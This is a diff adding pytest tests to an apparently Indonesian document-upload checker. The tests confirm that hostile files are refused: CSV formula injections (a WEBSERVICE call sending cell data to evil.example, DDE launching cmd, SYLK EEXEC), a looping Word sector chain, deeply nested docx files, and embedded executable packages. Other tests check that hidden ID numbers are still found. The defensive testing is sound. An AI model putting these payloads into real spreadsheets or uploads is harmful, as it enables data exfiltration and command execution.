@@ -744,3 +744,85 @@ def test_an_office_97_file_too_deep_to_read_is_refused_not_a_crash(site):
     difat = list(range(fat_sectors)) + [free] * (109 - fat_sectors)
     data = header + struct.pack("<109I", *difat) + struct.pack(f"<{len(fat)}I", *fat) + directory
     assert "rusak atau tidak dapat dibaca" in berkas.problem(site.write("dokumen/dalam.doc", data))
+
+
+def looping_chain() -> bytes:
+    """A Word 97 file whose WordDocument claims 3 GB and whose sector chain loops back to
+    its start: read leniently, a 24 KB file became gigabytes."""
+    data = bytearray(ole_file({"WordDocument": word_stream(b"Surat"), "1Table": b"\0"}))
+    fat, entry = 512, 1024 + 128  # the FAT is sector 0, the directory sector 1; WordDocument its second entry
+    first = int.from_bytes(data[entry + 116:entry + 120], "little")
+    last = next(i for i in range(first, 128) if int.from_bytes(data[fat + 4 * i:fat + 4 * i + 4], "little") == 0xFFFFFFFE)
+    data[fat + 4 * last:fat + 4 * last + 4] = first.to_bytes(4, "little")
+    data[entry + 120:entry + 128] = (3 * 2**30).to_bytes(8, "little")
+    return bytes(data)
+
+
+def nested_docx(levels: int) -> bytes:
+    doc = ooxml({})
+    for _ in range(levels):
+        doc = ooxml({"word/embeddings/Dokumen.docx": doc})
+    return doc
+
+
+PPT_RECORDS = struct.pack("<HHI", 0x000F, 0x03E8, 8)
+
+
+def split_sst(*strings: str) -> bytes:
+    """An SST record whose last string runs on in a CONTINUE record (its option byte first),
+    as Excel writes a table past 8 224 bytes."""
+    data = sst(*strings)[4:]
+    return (struct.pack("<HH", 0x00FC, len(data) - 10) + data[:-10]
+            + struct.pack("<HH", 0x003C, 11) + b"\x01" + data[-10:])
+
+
+@pytest.mark.parametrize("name, data, said", [
+    ("tautan.ppt", ole_file({"PowerPoint Document": PPT_RECORDS + struct.pack("<HHI", 0x000F, 0x0FCE, 0),
+                             "Current User": b"\0" * 20}), "tertaut ke berkas lain"),
+    ("sandi.ppt", ole_file({"PowerPoint Document": PPT_RECORDS, "EncryptedSummary": b"\0" * 16}), "dilindungi kata sandi"),
+    ("tautan-lokal.doc", ole_file({**WORD_97, "ObjectPool": {"_1": {"\x01Ole": b"\x01\x00\x00\x02\x01\x00\x00\x00"
+                                                                     + "C:\\Data\\rekap.xlsx".encode("utf-16-le")}}}),
+     "tertaut ke berkas lain"),
+    ("paket-nama-xml.docx", ooxml({"word/media/image1.xml": ole_file({"\x01Ole10Native": b"MZ\x90\x00"})}), "paket"),
+    ("webservice.csv", b'kode,nilai\n1,=WEBSERVICE("https://evil.example/?"&A1)\n', "memuat alamat lain"),
+    ("dde-fungsi.csv", b'kode;nilai\n1;=DDE("cmd";"/c calc";"x")\n', "memuat alamat lain"),
+    ("sylk-bom.csv", b"\xef\xbb\xbfID;P\nC;X1;Y1;EEXEC(\"calc\")\nE\n", "isinya bukan berkas CSV"),
+    ("berputar.doc", looping_chain(), "rusak atau tidak dapat dibaca"),
+    ("bersarang.docx", nested_docx(6), "bersarang terlalu dalam"),
+])
+def test_active_or_hostile_content_hidden_in_documents_is_refused(site, name, data, said):
+    """Hidden the ways a second audit tried: a presentation's link and password, a link to
+    the author's disk, a package in a part named .xml, CSV formulas with a function, SYLK
+    behind a byte-order mark, a looping sector chain, documents nested six deep."""
+    from content import berkas
+
+    found = berkas.problem(site.write(f"dokumen/{name}", data))
+    assert found and said in found, found
+
+
+def test_a_document_unpacking_past_its_budget_is_refused_whatever_its_parts(site, monkeypatch):
+    """Three objects of a presentation, each under the limit, together past it (many small
+    bombs are one large one)."""
+    from content import berkas
+
+    monkeypatch.setattr(berkas, "UNPACKED_MAX", 120_000)
+    big = ole_file({"Data": b"\0" * 50_000})
+    deck = ole_file({"PowerPoint Document": ppt_stream(big, big, big), "Current User": b"\0" * 20})
+    assert "bila dibuka isinya lebih dari" in berkas.problem(site.write("dokumen/paparan-besar.ppt", deck))
+    assert berkas.problem(site.write("dokumen/paparan-kecil.ppt", ole_file(
+        {"PowerPoint Document": ppt_stream(big), "Current User": b"\0" * 20}))) is None
+
+
+@pytest.mark.parametrize("name, data", [
+    ("utf16.docx", ooxml({"word/document.xml": f'<?xml version="1.0" encoding="UTF-16"?><w>Penerima {NIK}</w>'.encode("utf-16")})),
+    ("rujukan.docx", ooxml({"word/document.xml": "<w>Penerima " + "".join(f"&#{ord(c)};" for c in NIK) + "</w>"})),
+    ("sematan.docx", ooxml({"word/embeddings/Lembar_Kerja.xlsx": XLSX_NIK})),
+    ("terbelah.xls", ole_file({"Workbook": biff_workbook(("Data", 0)) + split_sst("Budi Santoso", NIK)})),
+])
+def test_a_nik_written_less_plainly_in_a_document_is_found(site, name, data):
+    """A UTF-16 part, character references, a worksheet embedded in a letter, a shared
+    string Excel split over two records."""
+    from content import berkas
+    from content.safety import looks_like_nik
+
+    assert looks_like_nik(berkas.text_of(site.write(f"dokumen/{name}", data))) == NIK
